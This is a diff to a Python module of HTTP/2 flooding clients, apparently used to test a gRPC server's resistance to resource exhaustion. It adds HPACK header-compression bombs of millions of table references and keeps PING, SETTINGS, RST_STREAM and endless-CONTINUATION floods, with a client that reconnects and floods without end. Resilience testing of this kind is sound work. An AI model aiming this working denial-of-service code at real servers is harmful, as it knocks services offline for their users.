@@ -1,4 +1,4 @@
-"""Clients that flood a server with frames of HTTP/2 (RFC 9113) that cost them nothing."""
+"""Clients that flood a server with frames of HTTP/2 (RFC 9113) that cost them less than the server."""
 
 import selectors
 import socket
@@ -6,9 +6,12 @@ import struct
 import time
 from collections import Counter
 from collections.abc import Callable, Iterator
-from itertools import count, cycle, islice, repeat
+from itertools import count, cycle, repeat
 
 from h2.connection import H2Connection
+from h2.events import RemoteSettingsChanged
+from h2.exceptions import ProtocolError
+from hpack import NeverIndexedHeaderTuple
 
 _DATA, _HEADERS, _PRIORITY, _RST_STREAM, _SETTINGS, _PING, _WINDOW_UPDATE, _CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
 _END_HEADERS = 4
@@ -16,14 +19,22 @@ _CANCEL = struct.pack(">I", 8)
 _CALL = [
     (":method", "POST"),
     (":scheme", "http"),
-    (":path", "/chatiere.v1.BatchService/Play"),
+    # A connection with a stream of batches would get a loop of its own at the fast door.
+    (":path", "/chatiere.v1.GameService/Apply"),
     (":authority", "localhost"),
     ("te", "trailers"),
     ("content-type", "application/grpc"),
 ]
-# Frames sent at a time.
-_MANY = 500
+# The longest header that HPACK's dynamic table of 4,096 bytes keeps, with its name and the 32 bytes it counts as; one
+# byte refers to the newest entry (RFC 7541, 2.3.3 and 6.1).
+LARGE = ("x-large", "a" * 3900)
+_REFERENCE = b"\xbe"
+_OF_FRAME = 2**14
+# Bytes of frames made at a time, at least.
+_AT_A_TIME = 2**13
 _CHUNK = 2**16
+# Seconds between looks for the settings of a server.
+_PAUSE = 0.001
 # The timeout of connecting, in seconds.
 _PATIENCE = 10.0
 
@@ -42,8 +53,23 @@ def _endless_headers(headers: bytes) -> Iterator[bytes]:
     yield from repeat(_frame(_CONTINUATION, 0, 3))
 
 
+def bombs(size: int, of_frame: int) -> Callable[[bytes], Iterator[bytes]]:
+    """Return what makes header lists of `size` references to a large header, in frames of `of_frame` bytes."""
+
+    def frames(headers: bytes) -> Iterator[bytes]:
+        block = headers + size * _REFERENCE
+        parts = [block[i : i + of_frame] for i in range(0, len(block), of_frame)]
+        for stream in count(3, 2):
+            for i, part in enumerate(parts):
+                flags = _END_HEADERS if i == len(parts) - 1 else 0
+                yield _frame(_CONTINUATION if i else _HEADERS, flags, stream, part)
+
+    return frames
+
+
 # Frames without end, made of a call's headers, beside an open call on stream 1.
-FLOODS: dict[str, Callable[[bytes], Iterator[bytes]]] = {
+FloodsByName = dict[str, Callable[[bytes], Iterator[bytes]]]
+FLOODS: FloodsByName = {
     "PING": lambda headers: repeat(_frame(_PING, 0, 0, bytes(8))),
     "SETTINGS": lambda headers: repeat(_frame(_SETTINGS, 0, 0)),
     "DATA": lambda headers: repeat(_frame(_DATA, 0, 1)),
@@ -52,15 +78,20 @@ FLOODS: dict[str, Callable[[bytes], Iterator[bytes]]] = {
     "RST_STREAM": _resets,
     "CONTINUATION": _endless_headers,
 }
+LARGE_BOMBS: FloodsByName = {"HEADERS of 4 MB": bombs(4_000_000, 4_100_000)}
+BOMBS: FloodsByName = {"HEADERS of 3 MB": bombs(3_000_000, 3_100_000)}
+# libnghttp2 takes eight frames of CONTINUATION.
+BLOCKS: FloodsByName = {"header list of 110 kB in CONTINUATION": bombs(110_000, _OF_FRAME)}
 
 
 class Flooder:
     """An attacker with one connection at a time: each floods with another kind of frame, until the server ends it."""
 
-    def __init__(self, address: tuple[str, int], source: str, came: Counter[str]) -> None:
+    def __init__(self, address: tuple[str, int], source: str, came: Counter[str], kinds: FloodsByName) -> None:
         """Connect. `source`: its own address; `came`: counts of what happens."""
         self._address, self._source, self._came = address, source, came
-        self._kinds = cycle(FLOODS)
+        self._floods = kinds
+        self._kinds = cycle(kinds)
         self.connect()
 
     def connect(self) -> None:
@@ -69,25 +100,42 @@ class Flooder:
         self.socket = socket.create_connection(self._address, _PATIENCE, source_address=(self._source, 0))
         http2 = H2Connection()
         http2.initiate_connection()
-        http2.send_headers(1, _CALL)
+        http2.send_headers(1, [*_CALL, LARGE])
         sent = http2.data_to_send()
-        # The same once more is nothing but references to the table of header compression: it suits any further stream.
-        http2.send_headers(3, _CALL)
-        self._frames = FLOODS[self._kind](http2.data_to_send()[9:])
+        # As this leaves the table of header compression as it is, it suits any further stream.
+        http2.send_headers(3, [NeverIndexedHeaderTuple(*header) for header in _CALL])
+        self._frames = self._floods[self._kind](http2.data_to_send()[9:])
         self.socket.setblocking(False)
         self._left = memoryview(sent)
+        # Until the server's settings have come.
+        self._http2: H2Connection | None = http2
         self._came["begun"] += 1
 
     def send(self) -> None:
         """Send as much as the socket takes at once. Raise OSError if the server has ended the connection."""
+        if not self._left and self._http2 is not None:
+            time.sleep(_PAUSE)
+            return
         if not self._left:
-            self._left = memoryview(b"".join(islice(self._frames, _MANY)))
+            sent = bytearray()
+            while len(sent) < _AT_A_TIME:
+                sent += next(self._frames)
+            self._left = memoryview(sent)
         self._left = self._left[self.socket.send(self._left) :]
 
     def read(self) -> None:
-        """Pass over what has arrived. Raise OSError if the server has ended the connection."""
-        if not self.socket.recv(_CHUNK):
+        """Read what has arrived: the server's settings, which hold once they are acknowledged, and pass over the rest.
+
+        Raise OSError if the server has ended the connection.
+        """
+        data = self.socket.recv(_CHUNK)
+        if not data:
             raise ConnectionResetError
+        if self._http2 is not None:
+            events = self._http2.receive_data(data)
+            if any(isinstance(event, RemoteSettingsChanged) for event in events):
+                self._left = memoryview(bytes(self._left) + self._http2.data_to_send())
+                self._http2 = None
 
     def begin_again(self) -> None:
         """Connect again after the end of the connection."""
@@ -112,7 +160,7 @@ def flood(flooders: list[Flooder], until: float) -> None:
                         flooder.send()
                 except BlockingIOError:
                     continue
-                except OSError:
+                except (OSError, ProtocolError):
                     selector.unregister(flooder.socket)
                     flooder.begin_again()
                     selector.register(flooder.socket, both, flooder)
